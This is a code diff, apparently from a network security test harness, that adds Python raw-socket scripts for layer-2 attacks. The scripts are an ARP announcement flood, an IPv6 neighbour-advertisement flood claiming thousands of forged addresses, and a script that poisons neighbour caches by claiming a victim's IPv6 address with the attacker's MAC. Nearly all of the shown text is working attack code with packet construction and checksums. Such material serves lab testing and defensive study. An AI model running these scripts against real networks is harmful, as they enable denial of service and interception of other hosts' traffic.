@@ -49,17 +49,13 @@ print(sent)
 """
 
 
-# ARP announcements (gratuitous requests) from the attacker's interface, each claiming another address 10.9.x.y
-# with another MAC, as fast as the host can send them
-FORGE_HOSTS = r"""
-import socket, struct, sys, time
-iface, count = sys.argv[1], int(sys.argv[2])
+# (the send loop of the address floods: ``frame_of(n)`` for n below ``count``, each sent once, waiting out a full
+# queue)
+_SEND_EACH = r"""
 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 s.bind((iface, 0))
 for n in range(count):
-    mac = bytes([2, 0, 0, 9, n >> 8, n & 255])
-    ip = bytes([10, 9, n >> 8, n & 255])
-    frame = b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, ip, bytes(6), ip)
+    frame = frame_of(n)
     while True:
         try:
             s.send(frame)
@@ -67,4 +63,58 @@ for n in range(count):
         except OSError:  # the interface's queue is full: wait for it
             time.sleep(0.001)
 print(count)
+"""
+
+# ARP announcements (gratuitous requests) from the attacker's interface, each claiming another address 10.9.x.y
+# with another MAC, as fast as the host can send them
+FORGE_HOSTS = r"""
+import socket, struct, sys, time
+iface, count = sys.argv[1], int(sys.argv[2])
+def frame_of(n):
+    mac = bytes([2, 0, 0, 9, n >> 8, n & 255])
+    ip = bytes([10, 9, n >> 8, n & 255])
+    return b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, ip, bytes(6), ip)
+""" + _SEND_EACH
+
+
+# what both IPv6 scripts send: a neighbour advertisement (override, with its target link-layer address option)
+# for ``ip`` at ``mac``, sourced from ``ip`` as a real one is, in an Ethernet frame to ``eth_dst``
+_ADVERT = r"""
+import socket, struct, sys, time
+def csum(b):
+    t = sum(struct.unpack(f"!{len(b) // 2}H", b))
+    while t >> 16:
+        t = (t & 0xFFFF) + (t >> 16)
+    return ~t & 0xFFFF
+def advert(ip, mac, dst, eth_dst):
+    icmp = struct.pack("!BBHI16sBB6s", 136, 0, 0, 0x20000000, ip, 2, 1, mac)
+    icmp = icmp[:2] + struct.pack("!H", csum(ip + dst + struct.pack("!I3xB", len(icmp), 58) + icmp)) + icmp[4:]
+    return eth_dst + mac + b"\x86\xdd" + struct.pack("!IHBB16s16s", 0x60000000, len(icmp), 58, 255, ip, dst) + icmp
+all_nodes, all_nodes_mac = socket.inet_pton(socket.AF_INET6, "ff02::1"), b"\x33\x33\x00\x00\x00\x01"
+"""
+
+# IPv6 neighbour advertisements to all nodes from the attacker's interface, each claiming another address
+# fd00::9:x:y with another MAC, as fast as the host can send them: the ARP announcements' twin
+FORGE_IPV6_HOSTS = _ADVERT + r"""
+iface, count = sys.argv[1], int(sys.argv[2])
+def frame_of(n):
+    return advert(socket.inet_pton(socket.AF_INET6, f"fd00::9:{n >> 8:x}:{n & 255:x}"),
+                  bytes([2, 0, 0, 9, n >> 8, n & 255]), all_nodes, all_nodes_mac)
+""" + _SEND_EACH
+
+# The victim's IPv6 address claimed with the attacker's MAC: advertisements to all nodes and to a known host,
+# every 0.2 s
+FORGE_IPV6 = _ADVERT + r"""
+iface, victim, target, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
+mac = bytes.fromhex(open(f"/sys/class/net/{iface}/address").read().strip().replace(":", ""))
+vip = socket.inet_pton(socket.AF_INET6, victim)
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind((iface, 0))
+frames = [advert(vip, mac, all_nodes, all_nodes_mac),
+          advert(vip, mac, socket.inet_pton(socket.AF_INET6, target), b"\xff" * 6)]
+for _ in range(count):
+    for f in frames:
+        s.send(f)
+    time.sleep(0.2)
+print(count * len(frames))
 """
